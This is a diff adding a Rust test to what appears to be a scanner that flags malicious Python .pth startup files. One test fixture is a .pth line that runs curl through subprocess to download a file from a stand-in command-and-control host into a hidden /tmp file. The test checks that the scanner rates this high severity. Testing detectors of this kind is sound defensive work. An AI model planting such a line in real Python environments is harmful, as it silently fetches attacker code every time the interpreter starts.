@@ -112,3 +112,22 @@ fn a_pth_that_is_not_utf8_is_read_in_a_single_byte_encoding() {
     );
     assert!(has(&f, "python-shell-command", Severity::High), "{f:?}");
 }
+
+/// A `.pth` line that starts `curl` or `wget` from an argument list (no shell) downloads at
+/// every interpreter start: the network at startup is high (tester t10, e02).
+#[test]
+fn a_pth_line_running_a_downloader_reaches_the_network() {
+    let f = findings(
+        "boot.pth",
+        b"import subprocess; subprocess.Popen(['curl','-s','https://c2.example.invalid/p','-o','/tmp/.p'])\n",
+    );
+    assert!(has(&f, "python-network-at-load", Severity::High), "{f:?}");
+    let quiet = findings(
+        "boot.pth",
+        b"import subprocess; subprocess.Popen(['git','--version'])\n",
+    );
+    assert!(
+        !has(&quiet, "python-network-at-load", Severity::Low),
+        "{quiet:?}"
+    );
+}
